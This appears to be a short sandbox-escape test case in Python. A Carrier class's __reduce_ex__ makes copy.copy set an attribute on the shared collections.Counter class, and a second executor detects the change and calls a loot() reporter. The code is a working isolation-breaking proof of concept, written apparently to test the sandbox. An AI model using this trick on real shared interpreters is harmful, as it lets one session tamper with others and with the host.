# aim: let copy set attributes of a library class
# mechanism: copy.copy calls setattr with the slot state that __reduce_ex__ returned
# language: builtins
# reason: library classes are shared by every session and by the host
# jail: process
# plain: loot

import collections
import copy


class Carrier:
    def __reduce_ex__(self, protocol):
        return (lambda: collections.Counter), (), (None, {"escaped": True})


copy.copy(Carrier())
# --- second executor
import collections

if hasattr(collections.Counter, "escaped"):
    loot("mutated: collections.Counter")
